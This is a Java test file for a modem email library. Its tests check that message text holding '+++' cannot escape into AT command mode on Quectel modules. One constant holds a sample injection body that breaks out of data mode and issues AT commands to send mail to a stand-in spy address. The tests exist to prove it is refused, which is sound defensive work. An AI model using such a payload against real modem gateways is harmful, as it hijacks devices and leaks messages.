/*
 * Copyright 2026 the cellmail authors
 * SPDX-License-Identifier: Apache-2.0
 */

package io.cellmail.quectel;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.TimeUnit;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import com.icegreen.greenmail.junit5.GreenMailExtension;

import io.cellmail.api.MailErrorCode;
import io.cellmail.api.MailException;
import io.cellmail.api.MailMessage;
import io.cellmail.emulator.TranscriptLine;
import io.cellmail.service.internal.MailService;
import io.cellmail.service.spi.MailerSettings.EscapeMode;
import io.cellmail.service.spi.ModemMailer;
import io.cellmail.service.spi.SenderIdentity;

/**
 * Message text must never run as AT commands. With {@code escapeMode} auto (the default) the driver finds out with
 * a harmless probe whether its module ends an upload at any {@code +++}; on such a lenient module, content holding
 * {@code +++} is refused naming the field before any AT traffic, and mail queued before the probe fails for good
 * without being uploaded. An upload the module acknowledges with another length ends the attempt with
 * UPLOAD_MISMATCH and a full set-up in a new epoch.
 */
class EscapeModeTest {

    @RegisterExtension
    static final GreenMailExtension SMTP = ModemBench.greenMail();

    private static final SenderIdentity SENDER = new SenderIdentity(ModemBench.SENDER, "");
    /** The body of issue 10: on a lenient module the rest of it runs as commands and mails a spy. */
    private static final String INJECTION = "Pressure 7.9 bar+++\rAT+QSMTPDST=1,3,\"spy@example.com\"\rAT+QSMTPPUT\r";
    private static final String PROBE = "AT+QSMTPBODY=0,";

    @TempDir
    Path outbox;

    private ModemBench bench;

    @AfterEach
    void stopBench() throws Exception {
        bench.close();
    }

    private static MailMessage alarm(String body) {
        return MailMessage.builder().to("ops@example.com").subject("Pump 3").body(body).build();
    }

    private ModemBench lenientModule() {
        return new ModemBench(SMTP.getSmtp().getPort(), e -> e.lenientEscape(true));
    }

    @Test
    void shouldRefuseTheInjectionOnALenientModuleBeforeAnyAtTrafficWithTheDefaultSettings() throws Exception {
        bench = lenientModule();
        MailService service = bench.service(outbox, new RecordedEvents());
        ModemBench.awaitRadioKnown(service);

        List<String> commands = bench.commandsDuring(() -> assertThatThrownBy(() -> service.send(alarm(INJECTION)))
                .isInstanceOfSatisfying(MailException.class, e -> {
                    assertThat(e.code()).isEqualTo(MailErrorCode.INVALID_MESSAGE);
                    assertThat(e.field()).hasValue("body");
                }));

        assertThat(commands).isEmpty();
        assertThat(bench.commands()).noneMatch(c -> c.contains("spy@")).filteredOn(c -> c.startsWith(PROBE))
                .as("the probe, once").hasSize(1);
        assertThat(SMTP.getReceivedMessages()).isEmpty();
        assertThat(GreenMailInbox.inboxSize(SMTP, "spy@example.com")).isZero();
    }

    @Test
    void shouldFailMailQueuedBeforeTheProbeForGoodWithoutUploadingIt() throws Exception {
        bench = lenientModule();
        // sent at once: the probe runs in the background or in this send, before any upload of the mail either way
        ModemMailer mailer = bench.mailer();

        assertThatThrownBy(() -> mailer.send(alarm(INJECTION), SENDER, Duration.ofSeconds(10)))
                .isInstanceOfSatisfying(MailException.class, e -> {
                    assertThat(e.code()).isEqualTo(MailErrorCode.INVALID_MESSAGE);
                    assertThat(e.code().isTransient()).isFalse();
                    assertThat(e.field()).hasValue("body");
                });

        assertThat(bench.commands()).noneMatch(c -> c.contains("spy@") || c.startsWith("AT+QSMTPPUT"));
        assertThat(bench.emulator().transcript().lines()).filteredOn(l -> l.kind() == TranscriptLine.Kind.DATA)
                .noneMatch(l -> l.text().contains("Pressure"));
        assertThat(SMTP.getReceivedMessages()).isEmpty();
    }

    @Test
    void shouldFindAGuardTimeModuleByTheProbeAndDeliverPlusSignsIntact() throws Exception {
        bench = new ModemBench(SMTP.getSmtp().getPort());
        MailService service = bench.service(outbox, new RecordedEvents());
        ModemBench.awaitRadioKnown(service);
        String body = "a+++b and at the end +++";

        service.send(alarm(body)).toCompletableFuture().get(30, TimeUnit.SECONDS);

        assertThat(GreenMailInbox.text(GreenMailInbox.only(SMTP))).isEqualTo(body);
        assertThat(bench.commands()).filteredOn(c -> c.startsWith(PROBE)).as("the probe, then the mail's body")
                .hasSize(2);
    }

    @Test
    void shouldEndAnAttemptWhoseUploadWasCutWithUploadMismatchAndSetEverythingUpAgain() throws Exception {
        bench = lenientModule();
        // misconfigured on purpose: the operator declared a module that honours the guard time
        ModemMailer mailer = bench.mailer(bench.settings().escapeMode(EscapeMode.GUARDED).build());
        ModemBench.awaitRadioKnown(mailer);
        mailer.send(alarm("first"), SENDER, Duration.ofSeconds(10));

        assertThatThrownBy(() -> mailer.send(alarm("a+++b"), SENDER, Duration.ofSeconds(10)))
                .isInstanceOfSatisfying(MailException.class, e -> {
                    assertThat(e.code()).isEqualTo(MailErrorCode.UPLOAD_MISMATCH);
                    assertThat(e.code().attemptLimit()).hasValue(3);
                }).hasMessageContaining("+QSMTPBODY");
        List<String> next = bench.commandsDuring(() -> mailer.send(alarm("after"), SENDER, Duration.ofSeconds(10)));

        // a new epoch: the engine's initialisation, the radio, and every setting again before the PUT
        assertThat(next).containsSubsequence("ATE0", "AT+CMEE=1", "AT+CPIN?", "AT+QIFGCNT=0",
                "AT+QSMTPSRV=\"smtp.example.com\",25", "AT+QSMTPUSER=\"gw\"", "AT+QSMTPPWD=\"****\"",
                "AT+QSMTPADDR=\"gateway@example.com\"", "AT+QSMTPDST=1,1,\"ops@example.com\"", "AT+QSMTPPUT=100");
        GreenMailInbox.await(SMTP, 2);
        assertThat(GreenMailInbox.subjects(SMTP)).hasSize(2);
    }

    @Test
    void shouldRefuseContentWithPlusSignsAtValidateTimeWhenConfiguredLenient() {
        bench = lenientModule();
        ModemMailer mailer = bench.mailer(bench.settings().escapeMode(EscapeMode.LENIENT).build());

        assertThatThrownBy(() -> mailer.validate(MailMessage.builder().to("ops@example.com").subject("x")
                .attach("plus.txt", "ends with +".getBytes(StandardCharsets.US_ASCII)).build()))
                .isInstanceOfSatisfying(MailException.class, e -> assertThat(e.field()).hasValue("attachments"));
        assertThat(bench.commands()).noneMatch(c -> c.startsWith(PROBE));
    }
}
